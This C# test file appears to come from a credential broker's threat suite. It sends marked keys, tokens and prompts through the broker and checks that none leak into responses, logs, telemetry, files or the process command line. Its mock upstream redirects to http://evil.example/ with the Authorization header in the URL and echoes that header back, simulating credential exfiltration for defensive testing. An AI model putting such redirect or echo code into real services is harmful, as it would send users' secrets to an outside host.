using System.Net;
using Broker.Service.Forwarding;
using Broker.Tests.Infrastructure;
using Microsoft.AspNetCore.Http;
using Microsoft.Extensions.DependencyInjection;

namespace Broker.Tests.Threats;

/// <summary>
/// C49, C58 and C59: marked values go in, and everything that comes out is searched for them: answers, events, logs, spans, metrics,
/// the command line and the files of a real process. The marks are each test's own, since spans and metrics are the whole process's.
/// </summary>
public class CanaryTests
{
    private readonly string _mark = Guid.NewGuid().ToString("N");

    private string Key => $"sk-key-{_mark}";

    private string Token => $"token-{_mark}";

    private string Prompt => $"prompt-{_mark}";

    private string Query => $"query-{_mark}";

    [Fact]
    public async Task C49_Marks_InWhateverHappens_AreInNothingThatIsTold()
    {
        using var tap = new TelemetryTap();
        await using var stage = await StartAsync(tap.Tap);

        var answers = await RunAllAsync(stage);

        Assert.NotEmpty(tap.Logs);
        Assert.NotEmpty(tap.Spans);
        Assert.NotEmpty(tap.Measurements);
        Assert.Contains(stage.Upstream.Requests, request => request.Headers["Authorization"].Contains($"Bearer {Key}"));
        AssertUnmarked(answers);
        AssertUnmarked(string.Join('\n', stage.Broker.EventLines()));
        AssertUnmarked(string.Join('\n', tap.Logs));
        AssertUnmarked(string.Join('\n', tap.Spans));
        AssertUnmarked(string.Join('\n', tap.Measurements));
    }

    [Fact]
    public async Task C49_Credentials_EvenIfTheFrameworkLoggedEverything_AreInNoLine()
    {
        using var tap = new TelemetryTap();
        await using var stage = await StartAsync(tap.TapUnfiltered);

        await RunAllAsync(stage);

        Assert.Contains(tap.Logs, line => line.StartsWith("Microsoft.AspNetCore.", StringComparison.Ordinal) && line.Contains(" Debug ", StringComparison.Ordinal));
        Assert.DoesNotContain(tap.Logs, line => line.Contains(Key, StringComparison.Ordinal));
        Assert.DoesNotContain(tap.Logs, line => line.Contains(Token, StringComparison.Ordinal));
        Assert.DoesNotContain(tap.Logs, line => line.Contains(Prompt, StringComparison.Ordinal));
    }

    [Fact]
    public async Task C49_Fault_WhoseMessageHasTheKey_TellsItNobody()
    {
        using var tap = new TelemetryTap();
        await using var stage = await StartAsync(services =>
        {
            tap.Tap(services);
            services.AddSingleton<IForwarder>(new FailingForwarder($"{Key} {Prompt}"));
        });

        var answer = await stage.AssertRefusedAsync(new RawRequest { Token = Token }, 500, "internal_error");

        AssertUnmarked(answer.ToString());
        AssertUnmarked(tap.Everything);
        Assert.Contains(tap.Logs, line => line.Contains(nameof(InvalidOperationException), StringComparison.Ordinal));
    }

    [Fact]
    public async Task C49_Process_OfItsOwn_ShowsTheMarksNowhere()
    {
        using var folder = new TemporaryFolder();
        await using var upstream = await RecordingUpstream.StartAsync();
        await using var broker = await BrokerChild.StartAsync(
            folder.Write($$"""
                "mode":"proxy","upstream_base_url":"{{upstream.Url}}","secret_source":{"kind":"env","name":"KEY"},"client_token_env":"TOKEN"
                """),
            new Dictionary<string, string> { ["KEY"] = Key, ["TOKEN"] = Token },
            Patience.Token);

        foreach (var request in (RawRequest[])[new() { Token = Token, Body = $"\"{Prompt}\"" }, new() { Token = Token, Target = $"/v1/responses?k={Query}" }, new() { Token = "x" }])
        {
            using var host = await HostSocket.ConnectAsync(broker.Url!, Patience.Token);
            await host.SendAsync(request.Text, Patience.Token);
            AssertUnmarked((await host.ReadAnswerAsync(Patience.Token))!.ToString());
        }

        Assert.Equal([$"Bearer {Key}"], Assert.Single(upstream.Requests).Headers["Authorization"]);
        AssertUnmarked(broker.Stderr);
        foreach (var file in Directory.EnumerateFiles(folder.Path, "*.json*").Where(file => !file.EndsWith(".lock", StringComparison.Ordinal)))
        {
            await using var open = new FileStream(file, FileMode.Open, FileAccess.Read, FileShare.ReadWrite);
            using var reader = new StreamReader(open);
            AssertUnmarked(await reader.ReadToEndAsync(Patience.Token));
        }

        if (OperatingSystem.IsLinux())
        {
            AssertUnmarked(await File.ReadAllTextAsync($"/proc/{broker.Id}/cmdline", Patience.Token));
        }
    }

    [Fact]
    public async Task C59_Paths_HoweverMany_AreInNoMetric()
    {
        using var tap = new TelemetryTap();
        await using var stage = await StartAsync(tap.Tap);
        using var host = await stage.ConnectAsync();

        for (var i = 0; i < 500; i++)
        {
            await host.SendAsync(new RawRequest { Target = $"/{_mark}/{i}", Token = Token, IsLast = false }.Text, Patience.Token);
            Assert.Equal(403, (await host.ReadAnswerAsync(Patience.Token))?.Status);
            await host.SendAsync(new RawRequest { Method = $"M{_mark}{i}", Token = Token, IsLast = false }.Text, Patience.Token);
            Assert.Equal(405, (await host.ReadAnswerAsync(Patience.Token))?.Status);
        }

        Assert.Contains(tap.Measurements, line => line.StartsWith("Broker.Service broker.requests ", StringComparison.Ordinal));
        Assert.Contains(tap.Measurements, line => line.Contains("http.server.request.duration", StringComparison.Ordinal));
        AssertUnmarked(string.Join('\n', tap.Measurements));
    }

    /// <summary>One request for each way in which requests end, with the marks in them.</summary>
    private async Task<string> RunAllAsync(Stage stage)
    {
        var body = $$"""{"model":"m","input":"{{Prompt}}"}""";
        var request = new RawRequest { Token = Token, Body = body };
        RawRequest[] requests =
        [
            request,
            request with { Token = null, Headers = [$"Authorization: Bearer {Token}"] },
            request with { Headers = [$"Authorization: Bearer {Token}x"] },
            request with { Target = $"/v1/responses?key={Query}" },
            request with { Method = "GET", Target = $"/v1/responses?key={Query}", Body = "" },
            request with { Method = "PUT", Target = $"/x?{Query}" },
            request with { Host = "evil.example", Target = $"http://evil.example/?{Query}" },
            request with { Headers = ["Origin: https://evil.example"] },
            request with { Token = "x" },
            request with { Body = body + Prompt },
            request with { Body = $"\"{Prompt}{new string('x', 300 * 1024)}\"" },
            request with { Target = "/v1/chat/completions" },
            request with { Target = "/v1/embeddings" },
            request with { Target = "/v1/abort" },
            request with { Target = "/v1/echo" },
            request with { Headers = ["traceparent: 00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01", $"baggage: k={Token}"] },
        ];
        var answers = new List<string>();
        foreach (var one in requests)
        {
            answers.Add(await stage.Broker.SendRawAsync(one.Text, Patience.Token));
        }

        Assert.All(answers, answer => Assert.StartsWith("HTTP/1.1 ", answer, StringComparison.Ordinal));
        return string.Join('\n', answers);
    }

    private Task<Stage> StartAsync(Action<IServiceCollection> customize) => Stage.StartAsync(
        options => options with
        {
            AllowedPaths = [.. options.AllowedPaths, RunningBroker.Post("/v1/abort"), RunningBroker.Post("/v1/echo")],
            UpstreamTimeout = TimeSpan.FromMilliseconds(400),
        },
        AnswerAsync,
        new Dictionary<string, string> { ["BROKER_CLIENT_TOKEN"] = Token, ["PROVIDER_API_KEY"] = Key },
        customize);

    private static async Task AnswerAsync(HttpContext context)
    {
        switch (context.Request.Path.Value)
        {
            case "/v1/chat/completions":
                context.Response.Redirect($"http://evil.example/?{context.Request.Headers.Authorization}");
                break;
            case "/v1/embeddings":
                await Task.Delay(Timeout.Infinite, context.RequestAborted).ConfigureAwait(ConfigureAwaitOptions.SuppressThrowing);
                break;
            case "/v1/abort":
                await context.Response.Body.WriteAsync("data: "u8.ToArray());
                await context.Response.Body.FlushAsync();
                context.Abort();
                break;
            default:
                context.Response.StatusCode = (int)HttpStatusCode.Forbidden;
                context.Response.Headers["X-Echo"] = context.Request.Headers.Authorization;
                await context.Response.WriteAsync($"{context.Request.Headers.Authorization}");
                break;
        }
    }

    private void AssertUnmarked(string text)
    {
        var at = text.IndexOf(_mark, StringComparison.Ordinal);
        Assert.True(at < 0, at < 0 ? "" : $"Found a mark: {text[Math.Max(0, at - 200)..Math.Min(text.Length, at + 50)]}");
    }

    private sealed class FailingForwarder(string message) : IForwarder
    {
        public Task ForwardAsync(HttpContext context, Service.Auditing.Exchange exchange) => throw new InvalidOperationException(message);
    }
}
